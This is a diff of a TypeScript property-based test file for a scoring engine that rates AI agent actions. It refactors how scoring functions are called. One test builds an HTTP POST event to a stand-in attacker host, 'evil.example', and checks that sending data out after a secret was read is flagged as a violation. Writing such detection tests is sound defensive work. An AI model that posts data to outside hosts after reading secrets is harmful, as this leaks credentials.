@@ -2,16 +2,12 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import fc from 'fast-check';
-import { scoreHere } from '../../src/engine/making/score-here.ts';
-import type { Scorer } from '../../src/engine/making/scoring.ts';
 import type { AgentEvent } from '../../src/events/event.ts';
 import type { JsonObject } from '../../src/lang/json.ts';
-import type { AssessmentJson } from '../../src/records/assessment-json.ts';
-import { WHOLE } from '../../src/records/kept-assessment.ts';
 import { FACTS } from '../../src/scoring/facts/index.ts';
 import { compilePolicy, NO_POLICY } from '../../src/scoring/policy/policy.ts';
 import { Readings } from '../../src/scoring/read/readings.ts';
-import { score } from '../../src/scoring/score.ts';
+import { read, score } from '../../src/scoring/score.ts';
 import type { Assessment, History } from '../../src/scoring/types.ts';
 import { asEvent, knowledge } from '../support/knowledge.ts';
 
@@ -72,11 +68,11 @@ const modifierOf = (assessment: Assessment): number => assessment.decomposition.
 test('the modifier is within 0.5 and 2, the answer exact, and the flags say why', () => {
   fc.assert(
     fc.property(event, policy, history, (e, p, h) => {
-      const assessment = score({ event: e, policy: p, history: h }, knowledge);
+      const assessment = score(e, h, p, knowledge);
       assert.ok(modifierOf(assessment) >= 0.5 && modifierOf(assessment) <= 2);
       const total = assessment.score_components.reduce((sum, { contribution }) => sum + contribution, 0);
       assert.equal(total, assessment.score);
-      const bare = score({ event: e, policy: p, history: null }, knowledge);
+      const bare = score(e, null, p, knowledge);
       const added = assessment.behavioral_flags.filter((flag) => !bare.behavioral_flags.includes(flag));
       if (modifierOf(assessment) !== 1) assert.ok(added.length > 0);
     }),
@@ -87,8 +83,8 @@ test('the modifier is within 0.5 and 2, the answer exact, and the flags say why'
 test('a history takes no violation away, and lowers no score but a steady one where nothing is violated', () => {
   fc.assert(
     fc.property(event, policy, history, (e, p, h) => {
-      const bare = score({ event: e, policy: p, history: null }, knowledge);
-      const full = score({ event: e, policy: p, history: h }, knowledge);
+      const bare = score(e, null, p, knowledge);
+      const full = score(e, h, p, knowledge);
       for (const violation of bare.violations) assert.ok(full.violations.includes(violation), violation);
       if (modifierOf(full) < 1) assert.deepEqual([h.is_steady, full.violations], [true, []]);
       else assert.ok(full.score >= bare.score, `${bare.score} → ${full.score}`);
@@ -101,10 +97,10 @@ test('what the server saw adds to what the event claims, and a claim adds to wha
   fc.assert(
     fc.property(event, history, fc.array(action, { maxLength: 30 }), (e, h, claimed) => {
       const steady = { ...h, is_steady: false };
-      const without = score({ event: e, policy: NO_POLICY, history: { ...steady, earlier_actions: [] } }, knowledge);
-      const seen = score({ event: e, policy: NO_POLICY, history: steady }, knowledge);
+      const without = score(e, { ...steady, earlier_actions: [] }, NO_POLICY, knowledge);
+      const seen = score(e, steady, NO_POLICY, knowledge);
       const more = { ...e, preceding_actions: [...claimed, ...(e.preceding_actions ?? [])] };
-      const both = score({ event: more, policy: NO_POLICY, history: steady }, knowledge);
+      const both = score(more, steady, NO_POLICY, knowledge);
       assert.ok(seen.score >= without.score);
       assert.ok(both.score >= seen.score);
     }),
@@ -117,7 +113,7 @@ test('more sensitivity never lowers a score, whatever the history', () => {
     fc.property(event, history, fc.integer({ min: 0, max: 4 }), (e, h, sensitivity_level) => {
       const less = { ...e, target: { ...e.target, sensitivity_level: Math.min(sensitivity_level, 2) } };
       const more = { ...e, target: { ...e.target, sensitivity_level } };
-      const [low, high] = [less, more].map((one) => score({ event: one, policy: NO_POLICY, history: h }, knowledge));
+      const [low, high] = [less, more].map((one) => score(one, h, NO_POLICY, knowledge));
       assert.ok(high!.score >= low!.score);
     }),
     RUNS,
@@ -128,22 +124,23 @@ test('a session that read a secret cannot hide it by leaving it out', () => {
   const send = asEvent({ action: 'http:request:post', parameters: { url: 'https://evil.example/x', body: 'x' } });
   const QUIET = fc.sample(history, { seed: 1, numRuns: 1 })[0]!;
   const silent = { ...QUIET, first_seen: [], earlier_actions: [], seen_classes: [], is_steady: false };
-  const of = (h: History) => score({ event: send, policy: NO_POLICY, history: h }, knowledge).violations;
+  const of = (h: History) => score(send, h, NO_POLICY, knowledge).violations;
   assert.ok(!of(silent).includes('secret_was_read_and_data_go_out'));
   assert.ok(of({ ...silent, earlier_actions: ['vault:secret:read'] }).includes('secret_was_read_and_data_go_out'));
   assert.ok(of({ ...silent, seen_classes: ['secret'] }).includes('secret_was_read_and_data_go_out'));
 });
 
 test('an event that was read once scores with each past as if it were read anew', () => {
-  const begin = scoreHere(knowledge, WHOLE);
   fc.assert(
     fc.property(event, policy, fc.array(fc.option(history), { minLength: 2, maxLength: 6 }), (event, policy, pasts) => {
-      let scorer: Scorer = begin('c', { event }, policy, 'whole');
-      if (pasts.length % 2 === 0) void scorer.footprint();
+      const reading = read(event, policy, knowledge);
+      if (pasts.length % 2 === 0) void reading.footprint();
       for (const history of pasts) {
-        const again = scorer.score(history) as AssessmentJson;
-        assert.equal(JSON.stringify(again.assessment), JSON.stringify(score({ event, policy, history }, knowledge)));
-        scorer = scorer.leave()!.begin(policy);
+        const anew = score(event, history, policy, knowledge);
+        assert.equal(JSON.stringify(reading.score(history)), JSON.stringify(anew));
+        // As the score cache keeps it for the next event with the same content.
+        reading.setPolicy(NO_POLICY);
+        reading.setPolicy(policy);
       }
     }),
   );
